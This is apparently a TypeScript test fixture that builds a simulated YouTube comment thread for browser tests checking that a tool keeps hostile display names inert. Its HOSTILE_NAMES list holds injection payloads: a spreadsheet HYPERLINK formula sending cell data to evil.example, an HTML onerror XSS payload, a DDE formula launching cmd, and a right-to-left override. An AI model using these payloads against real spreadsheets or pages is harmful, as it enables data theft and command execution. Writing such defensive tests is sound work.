// A second thread (another video id) whose simulated campaign accounts carry hostile display names:
// formula injections, HTML, right-to-left overrides. Shared by the browser tests that must keep them inert.
import { readFileSync } from 'node:fs';
import { injectIntoNextResponse } from '../../src/demo/youtube-next.ts';
import { demoWatchPageHtml } from '../../src/demo/youtube-page.ts';
import type { DemoSite } from '../../src/demo/demo-site.ts';
import { sharedPath } from '../helpers/shared.ts';

export const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '<img src=x onerror="document.title=\'pwned\'">',
  'محمد‮ الأحمد',
  '+SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3',
];
export const HOSTILE_TEXT = 'Wake up! The truth about the western media lies is here #StopTheLies https://example.org/truth';

/** A second thread (another video id) whose campaign accounts carry hostile display names. */
export function hostileSite(): { url: string; respond: DemoSite['respond']; handles: string[] } {
  const snapshot = JSON.parse(readFileSync(sharedPath('fixtures/pages/youtube/yt_next_comments_page1_QqsLTNkzvaY_de-DE.json'), 'utf8'));
  const videoId = 'QqsLTNkzvaY';
  const injected = HOSTILE_NAMES.map((displayName, i) => ({
    at: 1 + i * 2,
    comment: {
      commentId: `UgzHostile${i}xxxxxxxxxxxxxxx4AaABAg`,
      channelId: `UC${String(i).repeat(2)}hostileChannelIdxx${i}`.slice(0, 24).padEnd(24, 'x'),
      handle: `truthseeker${48213 + i}`,
      displayName,
      text: HOSTILE_TEXT,
      avatarUrl: `https://yt3.ggpht.com/hostile-${i}=s88-c-k-c0x00ffffff-no-rj`,
      publishedTime: '5 minutes ago',
      likes: 0,
    },
  }));
  const response = JSON.stringify(injectIntoNextResponse(snapshot, injected));
  const page = demoWatchPageHtml({ videoId, title: 'Thread with hostile names', banner: 'Test thread with a SIMULATED campaign' });
  return {
    url: `https://www.youtube.com/watch?v=${videoId}`,
    handles: injected.map((x) => x.comment.handle),
    respond(url, method = 'GET') {
      const parsed = new URL(url);
      if (parsed.searchParams.get('v') !== videoId) return null;
      if (parsed.hostname === 'www.youtube.com' && parsed.pathname === '/watch') return { contentType: 'text/html', body: page };
      if (parsed.pathname === '/youtubei/v1/next' && method === 'POST') return { contentType: 'application/json', body: response };
      return null;
    },
  };
}

